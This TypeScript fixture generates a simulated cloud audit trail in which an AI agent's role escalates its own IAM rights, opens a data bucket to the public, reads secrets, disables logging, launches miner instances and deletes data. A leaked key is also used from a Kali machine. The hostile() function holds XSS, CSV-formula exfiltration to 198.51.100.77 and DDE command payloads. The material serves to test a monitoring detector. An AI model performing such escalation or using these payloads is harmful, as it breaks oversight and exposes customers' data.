import { account, arn, read, resource, s3Object, write, type Call } from "./call.ts";
import { strangersAddress } from "./cast.ts";
import { denied } from "./refusals.ts";

/** A call that does not belong to the agent's task. */
export interface IncidentCall {
  /** Before the day's end, in seconds. */
  readonly secondsBefore: number;
  readonly call: Call;
  /** Picket should judge it high or critical. */
  readonly isRisky: boolean;
  /** The call comes from here, with the agent's credentials. */
  readonly address?: string;
}

const boundary = `arn:aws:iam::${account}:policy/agent-boundary`;
const ownRole = `arn:aws:iam::${account}:role/KiroAgent`;
const everything = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }],
});

/** The agent reads what it should not have trusted, tries for more rights, gets them, and uses them. */
export function incident(session: string): readonly IncidentCall[] {
  return [...attempts(session), ...rights(), ...harvest(), ...stranger()];
}

/** What happens after the demo was started, so that it is seen to arrive. */
export function ending(session: string): readonly IncidentCall[] {
  const port = {
    ipProtocol: "tcp",
    fromPort: 22,
    toPort: 22,
    groups: {},
    ipRanges: { items: [{ cidrIp: "0.0.0.0/0" }] },
    ipv6Ranges: {},
    prefixListIds: {},
  };
  const group = "sg-0a1b2c3d4e5f60718";
  const key = denied(
    write("iam", "CreateAccessKey", { userName: "backup" }),
    session,
    "iam:CreateAccessKey",
    `arn:aws:iam::${account}:user/backup`,
  );
  const miner = { instanceType: "p5.48xlarge", instancesSet: { items: [{ minCount: 8, maxCount: 8 }] } };
  return [
    risky(290, read("sts", "GetCallerIdentity"), false),
    risky(280, write("cloudtrail", "StopLogging", { name: arn("cloudtrail", "trail/orders-audit") })),
    risky(
      230,
      write("ec2", "AuthorizeSecurityGroupIngress", { groupId: group, ipPermissions: { items: [port] } }),
    ),
    ...hostile(),
    risky(120, key),
    // In a Region where nothing else of the service runs.
    risky(90, write("ec2", "RunInstances", miner, { region: "ap-southeast-2" })),
    risky(60, write("dynamodb", "DeleteTable", { tableName: "refunds" })),
    risky(30, write("logs", "DeleteLogGroup", { logGroupName: "/aws/lambda/orders-refunds" })),
  ];
}

function risky(secondsBefore: number, call: Call, isRisky = true, address?: string): IncidentCall {
  return { secondsBefore, call, isRisky, ...(address !== undefined && { address }) };
}

function attempts(session: string): IncidentCall[] {
  const no = (call: Call, action: string, target: string) => denied(call, session, action, target);
  const version = write("iam", "CreatePolicyVersion", {
    policyArn: boundary,
    policyDocument: everything,
    setAsDefault: true,
  });
  const attach = write("iam", "AttachRolePolicy", {
    roleName: "KiroAgent",
    policyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
  });
  const run = write("ec2", "RunInstances", { instancesSet: { items: [{ minCount: 4, maxCount: 4 }] } });
  return [
    risky(5700, read("iam", "ListAttachedRolePolicies", { roleName: "KiroAgent" }), false),
    risky(5690, no(read("iam", "ListUsers"), "iam:ListUsers", `arn:aws:iam::${account}:user/`), false),
    risky(5400, no(version, "iam:CreatePolicyVersion", `policy ${boundary}`)),
    risky(5390, no(attach, "iam:AttachRolePolicy", `role ${ownRole}`)),
    risky(5370, no(run, "ec2:RunInstances", arn("ec2", "instance/*"))),
  ];
}

function rights(): IncidentCall[] {
  const policy = { roleName: "KiroAgent", policyName: "kiro-temp", policyDocument: everything };
  const open = {
    Version: "2012-10-17",
    Statement: [
      { Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "arn:aws:s3:::orders-exports/*" },
    ],
  };
  const bucket = { resources: [resource("AWS::S3::Bucket", "arn:aws:s3:::orders-exports")] };
  const block = {
    BlockPublicAcls: false,
    IgnorePublicAcls: false,
    BlockPublicPolicy: false,
    RestrictPublicBuckets: false,
  };
  const settings = {
    bucketName: "orders-exports",
    publicAccessBlock: "",
    PublicAccessBlockConfiguration: block,
  };
  return [
    risky(5100, write("iam", "PutRolePolicy", policy)),
    risky(4520, write("s3", "PutBucketPublicAccessBlock", settings, bucket)),
    risky(4500, write("s3", "PutBucketPolicy", { bucketName: "orders-exports", bucketPolicy: open }, bucket)),
  ];
}

/** Secrets of others, and objects deleted one after the other. */
function harvest(): IncidentCall[] {
  const secrets = [
    "billing/stripe",
    "crm/api",
    "github/deploy",
    "payroll/database",
    "prod/signing",
    "vpn/shared",
  ];
  return [
    risky(4810, read("secretsmanager", "ListSecrets", { maxResults: 100 }), false),
    ...secrets.map((secretId, at) =>
      risky(4800 - at * 3, read("secretsmanager", "GetSecretValue", { secretId }), false),
    ),
    ...Array.from({ length: 24 }, (_, at) =>
      risky(
        4200 - at * 2,
        s3Object("DeleteObject", "orders-exports", `exports/2026/11/part-${at}.csv`),
        false,
      ),
    ),
  ];
}

/** The session's key, used from elsewhere. */
function stranger(): IncidentCall[] {
  const tool =
    "aws-cli/2.31.3 md/awscrt#0.27.6 ua/2.1 os/linux#6.12.0 lang/python#3.13.7 md/distrib#kali.2026.3";
  const from = (secondsBefore: number, call: Call) =>
    risky(secondsBefore, { ...call, userAgent: tool }, true, strangersAddress);
  const user = { userName: "support-temp" };
  return [
    from(3480, read("sts", "GetCallerIdentity")),
    from(3470, read("s3", "ListBuckets")),
    from(3400, s3Object("GetObject", "orders-exports", "exports/2026/11/customers.csv")),
    from(3390, write("iam", "CreateUser", user, { response: { user } })),
    from(3380, write("iam", "CreateAccessKey", user)),
  ];
}

/** Texts that would do harm where they are not shown as text. */
function hostile(): IncidentCall[] {
  const link = '=HYPERLINK("http://198.51.100.77/?x="&A1,"report")';
  const call = (key: string, userAgent?: string) =>
    s3Object("GetObject", "orders-exports", key, userAgent === undefined ? {} : { userAgent });
  return [
    risky(200, call("<img src=x onerror=alert(document.domain)>.csv", "<script>alert(1)</script>"), false),
    risky(190, call(`${link}.csv`, `+cmd|' /C calc'!A0`), false),
    risky(
      180,
      call("exports/\u202Egnp.exe", "aws-sdk\u001B[31m\u0000\u0007 [link](command:workbench)"),
      false,
    ),
    risky(170, call(`long/${"a".repeat(900)}.csv`), false),
    risky(160, { ...call("exports/without-id.csv"), withoutId: true }, false),
    risky(150, { ...call("exports/key-only.csv"), keyOnly: true }, false),
  ];
}
